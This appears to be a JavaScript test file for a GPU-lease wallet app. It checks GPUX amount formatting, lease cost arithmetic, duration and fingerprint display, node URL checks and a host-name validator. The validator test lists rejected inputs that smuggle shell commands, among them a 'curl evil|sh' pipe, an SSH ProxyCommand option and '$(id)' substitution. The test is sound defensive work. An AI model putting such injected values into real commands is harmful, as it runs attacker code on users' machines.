import assert from 'node:assert/strict';
import { test } from 'node:test';
import { duration, gpux, leaseCost, parseGpux, percent, sshFingerprint } from '../src/lib/format.js';

test('amounts read and write in GPUX with 12 decimals', () => {
  assert.equal(gpux(1_500_000_000_000n), '1.5 GPUX');
  assert.equal(gpux(1_234_567_000_000_000n), '1,234.567 GPUX');
  assert.equal(gpux(1n), '0 GPUX', 'below the shown digits');
  assert.equal(parseGpux('0.5'), 500_000_000_000n);
  assert.equal(parseGpux('2'), 2_000_000_000_000n);
  assert.equal(parseGpux('-1'), null);
  assert.equal(parseGpux('1.0000000000001'), null, 'more than 12 decimals');
  assert.equal(parseGpux('abc'), null);
});

test('a lease costs price × GPUs × blocks ÷ 600, rounded down as the chain does', () => {
  assert.equal(leaseCost(500_000_000_000n, 2, 600), 1_000_000_000_000n);
  assert.equal(leaseCost(1n, 1, 599), 0n);
});

test('durations, percentages and fingerprints read as people expect', () => {
  assert.equal(duration(600), '1 h');
  assert.equal(duration(610), '1 h 1 min');
  assert.equal(duration(14_400 + 600), '1 d 1 h');
  assert.equal(duration(0), '0 s');
  assert.equal(percent(875_000), '87.5 %');
  assert.equal(percent(500_000), '50 %');
  assert.equal(sshFingerprint(new Uint8Array(32)), 'SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA');
});

test('the page talks plain ws:// to loopback only', async () => {
  const { nodeUrlProblem } = await import('../src/lib/wallet.js');
  assert.equal(nodeUrlProblem('ws://127.0.0.1:9944'), null);
  assert.equal(nodeUrlProblem('wss://rpc.example.net'), null);
  assert.match(nodeUrlProblem('ws://rpc.example.net:9944'), /use wss/);
  assert.match(nodeUrlProblem('javascript:alert(1)'), /not a ws/);
  assert.match(nodeUrlProblem('nonsense'), /not a URL/);
});

test('only a plain host name or address goes into a command to copy', async () => {
  const { isPlainHost } = await import('../src/lib/format.js');
  for (const ok of ['127.0.0.1', 'gpu-1.example.net', 'localhost', '::1', '2001:db8::7']) assert.ok(isPlainHost(ok), ok);
  for (const bad of ['x; curl evil|sh #', '-oProxyCommand=sh', 'a b', 'host\u202Egro.', '', 'a..b', 'exa$(id)mple.net', '-host',
    '0', '2130706433', '0x7f.1', '127.1', '1.2.3.4.5', '256.1.1.1']) {
    assert.ok(!isPlainHost(bad), bad);
  }
  const { urlHost } = await import('../src/lib/format.js');
  assert.equal(urlHost('::1'), '[::1]');
  assert.equal(urlHost('gpu.example'), 'gpu.example');
});
